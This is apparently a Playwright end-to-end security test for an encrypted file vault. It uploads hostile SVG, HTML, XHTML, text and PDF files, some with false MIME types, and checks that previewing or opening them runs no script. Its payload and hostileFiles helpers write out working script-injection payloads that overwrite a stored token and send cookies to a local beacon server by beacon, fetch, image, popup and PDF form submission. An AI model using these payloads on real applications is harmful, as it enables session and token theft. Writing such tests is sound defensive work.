import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Locator } from '@playwright/test';
import { downloadedBytes, expect, newPassphrase, sha256, test, type Page } from './fixtures';
import { GuestRequestPage, OwnerRequests } from './pages/request-pages';
import type { VaultPage } from './pages/vault-page';
import { pdfDocument } from './preview-media';

/**
 * Decrypted files are hostile: whoever can put a file in the vault (a file request's guest, anyone with a share of
 * the bucket) chooses its bytes and its type. Here a guest sends files that try to run script; the owner downloads
 * them, moves them into the vault, previews them and opens every address the preview exposes in a new tab. Script in
 * any of them would call a binding exposed to every page and frame of the owner's browser, try to reach a server the
 * test listens on, and overwrite the token in local storage: none of that may happen.
 */

/** Where hostile script reports from: a binding in every frame and popup of the owner's context, and a beacon server. */
async function watchForScript(context: BrowserContext) {
  const ran: string[] = [];
  const beacons: string[] = [];
  await context.exposeBinding('cofferHostileRan', ({ frame }, what: unknown) => void ran.push(`${String(what)} (in ${frame.url()})`));
  // A PDF's script cannot reach the binding; what it can do in a viewer that runs it is open dialogs and popups.
  context.on('dialog', (dialog) => {
    ran.push(`dialog "${dialog.message()}" (in ${dialog.page()?.url()})`);
    void dialog.dismiss();
  });
  const server = createServer((request, response) => {
    beacons.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const beacon = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { ran, beacons, beacon, close: () => new Promise<void>((closed) => server.close(() => closed())) };
}

/** Script that reports itself every way it can: the binding, the network (four ways) and local storage. */
function payload(beacon: string, tag: string): string {
  return [
    `try { cofferHostileRan('${tag} ran at ' + location.href + ', origin ' + self.origin); } catch (e) {}`,
    `try { localStorage.setItem('coffer.connection', JSON.stringify({ endpoint: '${beacon}', token: 'stolen-by-${tag}' })); } catch (e) {}`,
    `try { navigator.sendBeacon('${beacon}/${tag}/beacon', document.cookie); } catch (e) {}`,
    `try { fetch('${beacon}/${tag}/fetch', { mode: 'no-cors' }); } catch (e) {}`,
    `try { new Image().src = '${beacon}/${tag}/image'; } catch (e) {}`,
    `try { window.open('${beacon}/${tag}/popup'); } catch (e) {}`,
  ].join('\n');
}

/** The hostile files a guest sends: SVG and HTML with script, text with markup, XHTML, a PDF with script, false types. */
function hostileFiles(beacon: string) {
  const svg = [
    `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="try { cofferHostileRan('svg onload') } catch (e) {}">`,
    `<script><![CDATA[\n${payload(beacon, 'svg')}\n]]></script>`,
    '<rect width="120" height="80" fill="#c00"/>',
    '</svg>',
  ].join('\n');
  const html = [
    '<!doctype html><title>Invoice</title>',
    `<script>\n${payload(beacon, 'html')}\n</script>`,
    `<img src="x" onerror="try { cofferHostileRan('html onerror') } catch (e) {}">`,
    '<p>Your invoice</p>',
  ].join('\n');
  const text = `Notes\n<script>${payload(beacon, 'text')}</script>\n<img src=x onerror="cofferHostileRan('text onerror')">\n`;
  const xhtml = [
    '<?xml version="1.0"?>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><body>',
    `<script><![CDATA[\n${payload(beacon, 'xhtml')}\n]]></script>`,
    '</body></html>',
  ].join('\n');
  // What a hostile PDF runs when it opens, in a viewer that runs a PDF's JavaScript (Chromium's does: it showed the alert).
  const pdfScript = [
    'app.alert("pdf script ran");',
    `app.launchURL("${beacon}/pdf/launch", true);`,
    `this.submitForm("${beacon}/pdf/submit");`,
    `this.getURL("${beacon}/pdf/geturl");`,
  ].join(' ');
  return [
    { name: 'drawing.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) },
    { name: 'invoice.html', mimeType: 'text/html', buffer: Buffer.from(html) },
    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from(text) },
    { name: 'page.xhtml', mimeType: 'application/xhtml+xml', buffer: Buffer.from(xhtml) },
    { name: 'report.pdf', mimeType: 'application/pdf', buffer: pdfDocument('Quarterly figures', { script: pdfScript, link: `${beacon}/pdf/link` }) },
    // The type is the sender's word too: markup that says it is a picture, and markup that says it is a song.
    { name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from(svg) },
    { name: 'song.wav', mimeType: 'audio/wav', buffer: Buffer.from(html) },
  ];
}

/**
 * Opens a PDF's preview and checks that its page is drawn (dark text on white, and the page's text as the picture's
 * description), that no frame holds it and that the dialog exposes no address of it; returns the dialog.
 */
async function expectPdfDrawn(vault: VaultPage, name: string, text: string): Promise<Locator> {
  const dialog = await openPreview(vault, name);
  const page1 = dialog.getByRole('img', { name: 'Page 1 of 1' });
  await expect(page1).toHaveAccessibleDescription(text);
  const inked = await page1.evaluate((canvas: HTMLCanvasElement) => {
    const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? new Uint8ClampedArray();
    let dark = 0;
    for (let i = 0; i < pixels.length; i += 4) if ((pixels[i] ?? 255) < 100) dark++;
    return dark;
  });
  expect(inked).toBeGreaterThan(50);
  expect(vault.page.frames()).toHaveLength(1);
  expect(await exposedUrls(dialog)).toEqual([]);
  return dialog;
}

/** The token the app keeps in local storage. */
function storedConnection(page: Page): Promise<string | null> {
  return page.evaluate(() => localStorage.getItem('coffer.connection'));
}

async function openPreview(vault: VaultPage, name: string): Promise<Locator> {
  await vault.row(name).getByRole('button', { name: /^Preview/ }).click();
  const dialog = vault.page.getByRole('dialog', { name });
  await expect(dialog).toBeVisible();
  return dialog;
}

/** Every address the dialog exposes: what its images, frames, media and links point at. */
function exposedUrls(dialog: Locator): Promise<string[]> {
  return dialog.evaluate((d) =>
    Array.from(d.querySelectorAll('img[src], iframe[src], video[src], audio[src], source[src], object[data], embed[src], a[href]'), (e) => {
      const address = e.getAttribute('src') ?? e.getAttribute('href') ?? e.getAttribute('data') ?? '';
      return new URL(address, document.baseURI).href;
    }),
  );
}

/**
 * Opens `url` as a new tab of the same browser would ("Open image in new tab", or the address pasted into one): a
 * new page of the same context. Returns what loaded: its origin (opaque: 'null') and the response's security headers.
 */
async function openInNewTab(context: BrowserContext, url: string) {
  const tab = await context.newPage();
  const response = await tab.goto(url);
  // A round trip through the page after its load: any binding call its script made has reached the test by now.
  const origin = await tab.evaluate(() => self.origin);
  const opened = { url, origin, contentType: response?.headers()['content-type'], csp: response?.headers()['content-security-policy'] };
  await tab.close();
  return opened;
}

/** A CSP that makes a document a sandbox with an opaque origin and no script. */
function expectSandboxed(opened: { origin: string; csp: string | undefined }) {
  expect(opened.origin).toBe('null');
  const directives = (opened.csp ?? '').split(';').map((d) => d.trim().split(/\s+/));
  const sandbox = directives.find((d) => d[0] === 'sandbox');
  expect(sandbox, `CSP ${opened.csp}`).toBeDefined();
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-same-origin');
}

test('hostile files from a file request run no script: downloaded, moved into the vault, previewed, opened in new tabs', async ({ vault, browser }) => {
  test.setTimeout(120_000);
  const page = vault.page;
  const context = page.context();
  const watch = await watchForScript(context);
  const files = hostileFiles(watch.beacon);
  await vault.createVault(newPassphrase());
  const token = await storedConnection(page);
  expect(token).toContain('"token"');

  const owner = new OwnerRequests(page);
  const { link } = await owner.create('Hostile files');
  const guestContext = await browser.newContext({ baseURL: process.env.COFFER_E2E_URL });
  const guest = await GuestRequestPage.open(await guestContext.newPage(), link);
  await guest.send(files);
  for (const file of files) await expect(guest.upload(file.name)).toContainText('Sent');
  await guestContext.close();

  // The inbox: each file downloads as an attachment, byte for byte, under its name; then moves into the vault.
  const inbox = await owner.showInbox('Hostile files');
  for (const file of files) {
    const download = await owner.download('Hostile files', file.name);
    expect(download.suggestedFilename()).toBe(file.name);
    expect(sha256(await downloadedBytes(download))).toBe(sha256(file.buffer));
  }
  for (const file of files) {
    await owner.moveIntoVault('Hostile files', file.name);
    await expect(inbox.getByRole('rowheader', { name: file.name, exact: true })).toHaveCount(0);
  }
  await vault.goTo('Files');

  // SVG: shown as a picture drawn from it (a PNG), never as the SVG document; its address opens an inert image.
  let dialog = await openPreview(vault, 'drawing.svg');
  let urls: string[];
  const image = dialog.getByRole('img', { name: 'drawing.svg' });
  await expect.poll(() => image.evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth > 0)).toBe(true);
  // The red rectangle, drawn: the picture is the SVG's, not a blank one.
  const pixel = await image.evaluate((i: HTMLImageElement) => {
    const canvas = document.createElement('canvas');
    canvas.width = i.naturalWidth;
    canvas.height = i.naturalHeight;
    const context2d = canvas.getContext('2d');
    context2d?.drawImage(i, 0, 0);
    return [...(context2d?.getImageData(canvas.width / 2, canvas.height / 2, 1, 1).data ?? [])];
  });
  expect(pixel).toEqual([204, 0, 0, 255]);
  urls = await exposedUrls(dialog);
  expect(urls).toHaveLength(1);
  for (const url of urls) {
    const opened = await openInNewTab(context, url);
    expect(watch.ran).toEqual([]);
    expect(opened.contentType, url).toBe('image/png');
  }
  await dialog.getByRole('button', { name: 'Close' }).click();

  // HTML, XHTML and text with markup: shown as their text, character for character, with no element made of it.
  for (const file of files.filter((f) => /\.(html|xhtml|txt)$/.test(f.name))) {
    dialog = await openPreview(vault, file.name);
    const contents = dialog.getByLabel(`Contents of ${file.name}`);
    await expect(contents).toHaveText(file.buffer.toString());
    expect(await contents.evaluate((pre) => pre.childElementCount)).toBe(0);
    expect(await exposedUrls(dialog)).toEqual([]);
    await dialog.getByRole('button', { name: 'Close' }).click();
  }

  // PDF: its pages drawn into the dialog, with no document and no address of the PDF anywhere.
  dialog = await expectPdfDrawn(vault, 'report.pdf', 'Quarterly figures');
  await dialog.getByRole('button', { name: 'Close' }).click();

  // Markup that claims to be a PNG: an image (that does not decode), whose address opens as an image, nothing else.
  dialog = await openPreview(vault, 'photo.png');
  await expect(dialog.getByRole('img', { name: 'photo.png' })).toHaveAttribute('src', /^blob:/);
  urls = await exposedUrls(dialog);
  expect(urls).toHaveLength(1);
  for (const url of urls) {
    const opened = await openInNewTab(context, url);
    expect(watch.ran).toEqual([]);
    expect(opened.contentType, url).toBe('image/png');
  }
  await dialog.getByRole('button', { name: 'Close' }).click();

  // Markup that claims to be a song: streamed by the service worker as audio/wav, and its address opened in a new
  // tab is a sandbox with an opaque origin.
  dialog = await openPreview(vault, 'song.wav');
  await expect(dialog.locator('audio')).toHaveAttribute('src', /^\/coffer-preview\/[0-9a-f]{32}$/);
  urls = await exposedUrls(dialog);
  expect(urls).toHaveLength(1);
  for (const url of urls) {
    const opened = await openInNewTab(context, url);
    expect(watch.ran).toEqual([]);
    expect(opened.contentType, url).toBe('audio/wav');
    expectSandboxed(opened);
  }
  await dialog.getByRole('button', { name: 'Close' }).click();

  // Downloads from the vault: attachments, byte for byte.
  for (const file of files) expect(sha256(await downloadedBytes(await vault.download(file.name)))).toBe(sha256(file.buffer));

  expect(watch.ran).toEqual([]);
  expect(watch.beacons).toEqual([]);
  expect(await storedConnection(page)).toBe(token);
  await watch.close();
});

test.describe('without the service worker', () => {
  test.use({ serviceWorkers: 'block' });

  test('an SVG still shows only as a picture, and a PDF only drawn', async ({ vault }) => {
    const page = vault.page;
    const context = page.context();
    const watch = await watchForScript(context);
    const files = hostileFiles(watch.beacon).filter((f) => /\.(svg|pdf)$/.test(f.name));
    await vault.createVault(newPassphrase());
    const token = await storedConnection(page);
    await vault.upload(files);

    let dialog = await openPreview(vault, 'drawing.svg');
    const image = dialog.getByRole('img', { name: 'drawing.svg' });
    await expect.poll(() => image.evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth > 0)).toBe(true);
    const urls = await exposedUrls(dialog);
    expect(urls).toHaveLength(1);
    for (const url of urls) {
      const opened = await openInNewTab(context, url);
      expect(watch.ran).toEqual([]);
      expect(opened.contentType, url).toBe('image/png');
    }
    await dialog.getByRole('button', { name: 'Close' }).click();

    // A PDF needs no service worker: it is drawn in the page, never put behind a blob: URL.
    dialog = await expectPdfDrawn(vault, 'report.pdf', 'Quarterly figures');

    expect(watch.ran).toEqual([]);
    expect(watch.beacons).toEqual([]);
    expect(await storedConnection(page)).toBe(token);
    await watch.close();
  });
});
